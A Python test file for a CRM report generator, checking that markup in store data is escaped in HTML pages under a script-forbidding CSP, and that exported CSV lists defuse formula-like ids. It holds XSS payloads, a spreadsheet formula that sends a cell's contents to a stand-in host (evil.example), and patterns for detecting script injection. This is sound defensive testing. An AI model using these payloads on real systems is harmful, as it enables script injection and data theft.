"""Issue 22: every value from the data is text in the shared HTML, never markup.

A store whose every text field carries markup (channel, region, product, category, status,
customer id, campaign id, variant, SMS copy, a column name, the orders file's name and a
string notebook parameter) is run through the report runner once; every page it writes must
hold no script, no ``javascript:`` URL and no event-handler attribute from the data, and carry
a Content-Security-Policy that forbids scripts. The operations lists neutralise a formula-like
customer id. Unit tests cover the presentation helpers one by one.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from crmlab.report import notebook as nb
from crmlab.report.html import CSP, history_page, index_page, notice_page, page
from crmlab.schema import CrmlabInputError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = [
    "<script>alert('ch')</script>",
    '<a href="javascript:alert(1)">click</a>',
    "[link](javascript:alert(2))",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "<iframe src=javascript:alert(5)></iframe>",
    "![i](javascript:alert(6))",
    "<body onload=alert(7)>",
]
HOSTILE_COLUMN = "<script>alert('col')</script>"
HOSTILE_CURRENCY = "<b>¥</b>"  # 8 characters, but markup: refused before any notebook runs (issue 23, Settings)
HOSTILE_COPY = "<script>alert('A')</script>A"  # the copy of arms A@10:00, A@17:00
HOSTILE_FILE = "<img src=x onerror=alert('file')>orders.csv"
LISTS = ("wakeup_list.csv", "magic_targets.csv", "clv_wakeup.csv", "clv_customers.csv", "sms_drop_list.csv",
         "promotion_warm_up.csv")
# attributes that may legitimately carry a URL, and the event-handler attributes (on...)
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the contents of <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k.lower(): (v or "") for k, v in attrs}))

    handle_startendtag = handle_starttag


def _tags(text: str) -> list[tuple[str, dict]]:
    p = _Tags()
    p.feed(text)
    p.close()
    return p.tags


def assert_inert(text: str, where: str = "") -> None:
    """No script element, no event handler, no javascript:/data-script URL, no frame/object."""
    assert not re.search(r"<\s*script", text, flags=re.I), f"{where}: <script> in the page"
    for tag, attrs in _tags(text):
        assert tag not in ("script", "iframe", "object", "embed", "svg", "base", "form"), f"{where}: <{tag}> {attrs}"
        for k, v in attrs.items():
            assert not k.startswith("on"), f"{where}: event handler {k}={v!r} on <{tag}>"
            if k in URL_ATTRS:
                u = re.sub(r"[\s\x00-\x1f]", "", v).lower()
                assert not u.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg")), \
                    f"{where}: {k}={v[:80]!r} on <{tag}>"
                if tag == "img":
                    assert u.startswith("data:image/png;base64,") or u.startswith("data:image/jpeg"), \
                        f"{where}: <img src={v[:80]!r}>"


def _csp(text: str) -> dict[str, list[str]]:
    metas = [a for t, a in _tags(text) if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    assert len(metas) == 1, "one Content-Security-Policy meta per page"
    out = {}
    for part in metas[0]["content"].split(";"):
        words = part.split()
        if words:
            out[words[0].lower()] = [w.lower() for w in words[1:]]
    return out


def assert_csp(text: str, where: str = "") -> None:
    """The page's CSP (a meta in <head>, before any style or body) forbids every script."""
    head = text[:text.lower().index("</head>")]
    assert "content-security-policy" in head.lower(), f"{where}: CSP meta not in <head>"
    assert head.lower().index("content-security-policy") < head.lower().find("<style") or "<style" not in head.lower()
    csp = _csp(text)
    assert csp.get("default-src") == ["'none'"], f"{where}: {csp}"
    for d in ("script-src", "script-src-elem", "script-src-attr", "worker-src", "object-src"):
        assert csp.get(d, ["'none'"]) == ["'none'"], f"{where}: {d} {csp.get(d)}"
    assert csp.get("base-uri") == ["'none'"] and csp.get("form-action") == ["'none'"]
    for d, v in csp.items():
        assert "'unsafe-eval'" not in v and ("'unsafe-inline'" not in v or d == "style-src"), f"{where}: {d} {v}"


# ----------------------------------------------------------------------------- unit tests


@pytest.fixture
def shown(monkeypatch):
    """The HTML each helper displays."""
    out: list[str] = []

    def display(obj, **kw):
        out.append(obj._repr_html_() if hasattr(obj, "_repr_html_") else obj.data)

    monkeypatch.setattr(nb, "_display", display)
    return out


@pytest.mark.parametrize("s", HOSTILE)
def test_md_escapes_raw_html_and_links(s):
    out = nb._md(f"**bold** {s} and `{s}`")
    assert "<strong>bold</strong>" in out
    assert_inert(out, s)
    assert not any(t == "a" for t, _ in _tags(out)), "no live link from markdown"


def test_md_keeps_inline_markdown():
    assert nb._md("**a** *b* `c`") == "<strong>a</strong> <em>b</em> <code>c</code>"
    assert nb._md("x < 0.001 & y") == "x &lt; 0.001 &amp; y"
    assert "<a" not in nb._md("[x](https://evil.example)") and "<a" not in nb._md("<https://evil.example>")
    # md_escape: a data value shows as it is, its markdown characters literal
    assert nb._md(nb.md_escape("**[x](javascript:alert(1))**")) == "**[x](javascript:alert(1))**"


def test_findings_warning_markdown_kpis(shown):
    nb.findings(HOSTILE + [f"channel **{s}** grew" for s in HOSTILE], title=HOSTILE[0])
    nb.warning(" ".join(HOSTILE))
    nb.markdown("\n".join(f"- {s}" for s in HOSTILE))
    nb.kpis({s: nb.kpi(s, "+" + s, s, tone=s) for s in HOSTILE})
    nb.kpis({s: s for s in HOSTILE})
    assert len(shown) == 5
    for h in shown:
        assert_inert(h)
    assert "&lt;script&gt;alert(&#x27;ch&#x27;)&lt;/script&gt;" in shown[0]


def test_table_escapes_cells_labels_index_caption(shown):
    df = pd.DataFrame({"channel": HOSTILE, "sales": range(len(HOSTILE)), "share": [0.1] * len(HOSTILE),
                       HOSTILE_COLUMN: HOSTILE, "customer_id": HOSTILE})
    nb.table(df, money=["sales"], percent=["share"], caption=HOSTILE[0])
    nb.table(df.set_index("channel"), caption=HOSTILE[1], appendix=True)
    t = df.set_index(["channel", HOSTILE_COLUMN])
    t.columns.name = HOSTILE[3]
    nb.table(t, labels=False)
    nb.table(df.set_index(HOSTILE_COLUMN).drop(columns="customer_id").T, labels=False)  # data values as headers
    assert len(shown) == 4
    for h in shown:
        assert_inert(h)
    assert "&lt;script&gt;alert(&#x27;col&#x27;)&lt;/script&gt;" in shown[0]


def test_escaped_styler(shown):
    df = pd.DataFrame({HOSTILE[0]: [1.0, 2.0]}, index=pd.Index(HOSTILE[1:3], name=HOSTILE[3]))
    nb._display(nb.escaped(df.style.format("{:.1%}").set_caption(HOSTILE[4])))
    assert_inert(shown[0])


def test_run_info_and_cards(shown):
    from crmlab.present.result import Card

    nb.run_info({"orders": "/x/" + HOSTILE_FILE, HOSTILE[0]: HOSTILE[1], "currency": HOSTILE[3]}, [])
    card = Card(HOSTILE[0], HOSTILE[1], HOSTILE[2], pd.DataFrame({HOSTILE[3]: HOSTILE[4:6]}, index=HOSTILE[6:8]),
                HOSTILE[0], tuple(HOSTILE), {HOSTILE[1]: HOSTILE[3]}, HOSTILE[5])
    for h in shown + [card.html()]:
        assert_inert(h)


def test_pages_escape_and_carry_csp():
    reports = [{"name": "01_x", "title": s, "description": s, "status": st, "error": s, "reason": s, "seconds": 1,
                "headlines": {s: {"value": s, "compare": s}, s + "2": s}}
               for s in HOSTILE for st in ("ok", "failed", "skipped")]
    run = {"reports": reports, "orders": HOSTILE_FILE, "sends": HOSTILE[1], "run_at": HOSTILE[2], "crmlab": HOSTILE[3],
           "seconds": 1, "period": {"first": HOSTILE[4], "last": HOSTILE[5]}, "ok": True}
    pages = {"index": index_page(run), "history": history_page([(HOSTILE[0], run), ("2025-01-01", run)]),
             "notice": notice_page(HOSTILE[0], HOSTILE[1]), "page": page(HOSTILE[2], "<p>x</p>")}
    for name, text in pages.items():
        assert_inert(text, name)
        assert_csp(text, name)


def test_report_template_renders_no_script(tmp_path):
    """Outputs a notebook may hold: text/markdown with markup (escaped, no links), JavaScript and
    widget views (dropped), an error with markup in it (escaped)."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook, new_output

    from crmlab.report.html import Nav, to_html

    outs = [new_output("display_data", {"text/markdown": "\n".join(f"- {s}" for s in HOSTILE)}),
            new_output("display_data", {"application/javascript": "alert('js')", "text/plain": "js"}),
            new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                                        "text/plain": "w"}),
            new_output("display_data", {"text/vnd.mermaid": "graph TD; A-->B<script>alert(1)</script>"}),
            new_output("stream", name="stdout", text=HOSTILE[0]),
            new_output("error", ename="ValueError", evalue=HOSTILE[1], traceback=[HOSTILE[2]])]
    nbk = new_notebook(cells=[new_code_cell("x", outputs=outs)])
    src = tmp_path / "x.ipynb"
    nbformat.write(nbk, str(src))
    to_html(src, tmp_path / "x.html", nav=Nav(prev=("a.html", HOSTILE[0])), period=HOSTILE[3], title=HOSTILE[4])
    text = (tmp_path / "x.html").read_text(encoding="utf-8")
    assert_inert(text)
    assert_csp(text)
    assert "alert(&#x27;ch&#x27;)" in text or "alert('ch')" in text  # shown, as text


# ----------------------------------------------------------------------------- the whole run


def _hostile_store(src: Path, dst: Path) -> tuple[Path, Path, str]:
    """The simulated store with markup in every text field; returns (orders, sends, columns)."""
    dst.mkdir(parents=True, exist_ok=True)
    o = pd.read_csv(src / "orders.csv", dtype=str, keep_default_na=False)
    s = pd.read_csv(src / "sends.csv", dtype=str, keep_default_na=False)

    def pick(values, i):
        return f"{HOSTILE[i % len(HOSTILE)]}{values}"

    def remap(col):
        names = sorted(col.unique())
        return col.map({v: pick(v, i) for i, v in enumerate(names)})

    for c in ("channel", "region", "product", "category"):
        o[c] = remap(o[c])
    # customer ids: a formula in most of them (operations lists), markup in others
    ids = sorted(set(o["customer_id"]) | set(s["customer_id"]))
    new = {c: (f'=HYPERLINK("http://evil.example/?"&A1,"{c}")' if i % 3 else f"{HOSTILE[i % 8]}{c}")
           for i, c in enumerate(ids)}
    o["customer_id"] = o["customer_id"].map(new)
    s["customer_id"] = s["customer_id"].map(new)
    # a few rows with an unknown, hostile status (excluded, with the reason in the ledger)
    o.loc[o.index[::500], "status"] = HOSTILE[0]
    # a hostile column name (the customer id's, in both files, through the columns mapping); an extra column
    o = o.rename(columns={"customer_id": HOSTILE_COLUMN})
    s = s.rename(columns={"customer_id": HOSTILE_COLUMN})
    o["<img src=x onerror=alert('extra')>"] = HOSTILE[1]
    s["campaign_id"] = s["campaign_id"].map(lambda v: f"{HOSTILE[0]}{v}")
    s["variant"] = s["variant"].map(
        lambda v: v if v == "holdout" else v.replace("A@", "<script>alert('A')</script>A@")
        .replace("B@", "[B](javascript:alert('B'))B@"))
    s["copy"] = s["copy"].map(lambda v: f"{HOSTILE[3]}{v}" if v else v)
    orders = dst / HOSTILE_FILE
    sends = dst / "sends<svg onload=alert(1)>.csv"
    o.to_csv(orders, index=False)
    s.to_csv(sends, index=False)
    return orders, sends, f"customer_id={HOSTILE_COLUMN}"


@pytest.fixture(scope="module")
def hostile_run(small_store, tmp_path_factory):
    from crmlab.report.runner import run_reports

    root = tmp_path_factory.mktemp("hostile")
    orders, sends, columns = _hostile_store(small_store, root / "store")
    res = run_reports(str(orders), str(sends), out=str(root / "reports" / "{date}"), quiet=True, columns=columns,
                      parameters={"currency": "£", "current_copy": HOSTILE_COPY})
    return res, root / "reports"


def test_a_currency_with_markup_is_refused_up_front(small_store, tmp_path):
    from crmlab.report.runner import run_reports

    with pytest.raises(CrmlabInputError, match="currency"):
        run_reports(str(small_store / "orders.csv"), out=str(tmp_path / "r"), quiet=True, notebooks=["01"],
                    parameters={"currency": HOSTILE_CURRENCY})
    assert not (tmp_path / "r").exists()


def test_hostile_run_ran(hostile_run):
    res, _ = hostile_run
    # 08 skipped with its reason: the hostile store has no payment reminders
    assert [r.status for r in res.reports] == ["ok"] * 7 + ["skipped"], [(r.name, r.error) for r in res.reports]


def test_every_page_inert_with_csp(hostile_run):
    res, root = hostile_run
    pages = sorted(Path(res.out).glob("*.html")) + [root / "index.html"]
    assert len(pages) == 10  # eight reports (08 a skipped page), the run's index, the history
    for p in pages:
        text = p.read_text(encoding="utf-8")
        assert_inert(text, p.name)
        assert_csp(text, p.name)
    # the data did reach the pages, as text
    o1 = (Path(res.out) / "01_store_overview.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#x27;ch&#x27;)&lt;/script&gt;" in o1 or "&lt;script&gt;alert('ch')&lt;/script&gt;" in o1
    assert "£" in o1  # the run's currency (a markup one is refused up front: test above)


def test_lists_neutralise_formula_ids(hostile_run):
    res, _ = hostile_run
    found = {}
    for name in LISTS:
        f = Path(res.out) / name
        if not f.exists():
            continue
        t = pd.read_csv(f, dtype=str, keep_default_na=False)
        cells = [str(x) for x in t.columns] + [x for col in t.columns for x in t[col]]
        hits = [x for x in cells if "HYPERLINK" in x]
        for x in hits:
            assert x.startswith("'=HYPERLINK("), f"{name}: {x[:80]}"
        assert not any(x.startswith(("=", "+", "-", "@")) and not x.lstrip("+-").replace(".", "", 1).isdigit()
                       for x in cells), name
        found[name] = len(hits)
    assert sum(found.values()) > 0, found
